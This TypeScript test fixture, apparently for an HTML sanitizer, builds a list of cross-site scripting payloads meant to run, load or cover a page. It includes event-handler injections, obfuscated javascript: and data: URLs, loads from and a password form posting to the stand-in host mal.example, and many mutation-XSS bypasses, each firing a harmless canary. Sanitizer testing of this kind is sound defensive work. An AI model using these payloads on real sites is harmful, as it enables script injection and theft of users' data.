// Attacks on rich text (T-E1 … T-E5): afterwards nothing may run, load or cover the page.

const ATO = 'globalThis.canario=1';

const MARCAS =
  'img svg body video audio details marquee a p strong em input button form select textarea object embed iframe frame div span table style math template';
const EVENTOS = 'onerror onload onclick onmouseover onfocus ontoggle onbegin onanimationstart onpointerenter';
const comEventos = MARCAS.split(' ').flatMap((marca, i) => {
  const eventos = EVENTOS.split(' ');
  return [0, 1, 2].map((passo) => {
    const evento = eventos[(i + passo * 3) % eventos.length];
    return `<${marca} src=x autofocus open ${evento}="${ATO}">texto</${marca}>`;
  });
});

const ENDERECOS = [
  `javascript:${ATO}`,
  `JaVaScRiPt:${ATO}`,
  ` javascript:${ATO}`,
  `\u0001javascript:${ATO}`,
  `java\tscript:${ATO}`,
  `java\nscript:${ATO}`,
  `java\u0000script:${ATO}`,
  `&#106;avascript:${ATO}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${ATO}`,
  `javascript&colon;${ATO}`,
  `java&Tab;script:${ATO}`,
  `java&NewLine;script:${ATO}`,
  `javascript:%0a${ATO}`,
  `jav&#x09;ascript:${ATO}`,
  `vbscript:msgbox(1)`,
  `livescript:${ATO}`,
  `data:text/html,<script>${ATO}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${ATO}>`,
  `view-source:javascript:${ATO}`,
  `feed:javascript:${ATO}`,
  `blob:http://mal.example/1`,
  `filesystem:http://mal.example/1`,
  `file:///etc/passwd`,
  `about:blank`,
  `ftp://mal.example/`,
  `//mal.example/`,
  `\\\\mal.example\\a`,
  `/\\mal.example`,
  `/auth/logout`,
  `?token=1`,
  `#alvo`,
  `jar:http://mal.example!/a`,
  `x-mal:abrir`,
];
const comEnderecos = ENDERECOS.flatMap((endereco) => [
  `<a href="${endereco}">um link</a>`,
  `<a href='${endereco}' target=_top>um link</a>`,
]);

const CARREGAM = [
  '<img src="http://mal.example/a.png">',
  '<img srcset="http://mal.example/a.png 1x">',
  '<picture><source srcset="http://mal.example/a"></picture>',
  '<video poster="http://mal.example/a"></video>',
  '<audio src="http://mal.example/a" autoplay></audio>',
  '<link rel="stylesheet" href="http://mal.example/a.css">',
  '<link rel=prefetch href=//mal.example>',
  '<meta http-equiv="refresh" content="0;url=http://mal.example">',
  '<base href="http://mal.example/">',
  '<iframe src="http://mal.example"></iframe>',
  `<iframe srcdoc="<script>${ATO}</script>"></iframe>`,
  '<object data="http://mal.example/a.swf"></object>',
  '<embed src="http://mal.example/a.swf">',
  '<applet code="a"></applet>',
  '<form action="http://mal.example"><input name=senha></form>',
  `<button formaction="javascript:${ATO}">ok</button>`,
  '<input type=image src="http://mal.example/a">',
  '<body background="http://mal.example/a">',
  '<table background="http://mal.example/a"><tr><td>a</td></tr></table>',
  '<q cite="http://mal.example">a</q>',
  '<blockquote cite="http://mal.example">a</blockquote>',
  '<a ping="http://mal.example" href="http://exemplo.test">a</a>',
  '<a href="http://exemplo.test" download=mal.exe>a</a>',
];

const COBREM = [
  '<p style="position:fixed;inset:0;background:url(http://mal.example)">a</p>',
  `<p style="width:expression(${ATO})">a</p>`,
  '<p class="modal-cover">a</p>',
  '<p id="root">a</p>',
  '<p name="getElementById" data-x="1" aria-hidden="true" tabindex="1" contenteditable>a</p>',
  '<style>*{background:url(http://mal.example)}</style>texto',
  '<p slot=x is=y part=z>a</p>',
  '<dialog open>a</dialog>',
  '<font size=7 color=red>a</font>',
];

const MUTAM = [
  `<svg><script>${ATO}</script></svg>`,
  `<svg><style><img src=x onerror=${ATO}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ATO}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ATO}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ATO}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ATO}></style></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${ATO}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${ATO}>">`,
  `<title><p title="</title><img src=x onerror=${ATO}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${ATO}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${ATO}>"></noembed>`,
  `<iframe><p title="</iframe><img src=x onerror=${ATO}>">`,
  `<template><img src=x onerror=${ATO}></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${ATO}>">`,
  `<plaintext><img src=x onerror=${ATO}>`,
  `<option><style></option></select><b><img src=x onerror=${ATO}></style></option>`,
  `<!--><img src=x onerror=${ATO}>-->`,
  `<!--><script>${ATO}</script>-->`,
  `<!-- --!><img src=x onerror=${ATO}> -->`,
  `<![CDATA[<img src=x onerror=${ATO}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${ATO}>`,
  `<!doctype html><script>${ATO}</script>`,
  `<scr<script>ipt>${ATO}</scr</script>ipt>`,
  `<<script>script>${ATO}<</script>/script>`,
  `<script >${ATO}</script >`,
  `<script/x>${ATO}</script/x>`,
  `<SCRIPT>${ATO}</SCRIPT>`,
  `<script\n>${ATO}</script\n>`,
  `<script>${ATO}`,
  `</script><script>${ATO}</script>`,
  `<img src=x onerror=${ATO}//`,
  `<img/src=x/onerror=${ATO}>`,
  `<img src=\`x\`onerror=${ATO}>`,
  `<img """><script>${ATO}</script>">`,
  `<p title="<img src=x onerror=${ATO}>">a</p>`,
  `<a href="http://exemplo.test/"onclick="${ATO}">a</a>`,
  `<a href="http://exemplo.test/&quot; onclick=&quot;${ATO}">a</a>`,
  `<a href='http://exemplo.test/"><img src=x onerror=${ATO}>'>a</a>`,
  `&lt;img src=x onerror=${ATO}&gt;`,
  `&amp;lt;script&amp;gt;${ATO}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${ATO}&#60;/script&#62;`,
  `&lt;<b>script&gt;</b>${ATO}`,
  `&amp;<i></i>lt;script&gt;${ATO}`,
  `&am<!-- -->p;lt;script&gt;${ATO}`,
  `\u003cscript\u003e${ATO}`,
  `＜script＞${ATO}＜/script＞`,
  `<p>${'<b>'.repeat(60)}<img src=x onerror=${ATO}>`,
  `${'<div>'.repeat(2000)}<script>${ATO}</script>`,
  `<li><ul><script>${ATO}</script></ul></li>`,
  `<a><a href="javascript:${ATO}">a</a></a>`,
  `<p><table><a href="javascript:${ATO}">a</a></table></p>`,
  `<svg><a xlink:href="javascript:${ATO}"><text>a</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${ATO}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${ATO}>#x"/></svg>`,
  `<math href="javascript:${ATO}">a</math>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${ATO}</x:script>`,
];

export const CARGAS_XSS: readonly string[] = [
  ...new Set([...comEventos, ...comEnderecos, ...CARREGAM, ...COBREM, ...MUTAM]),
];
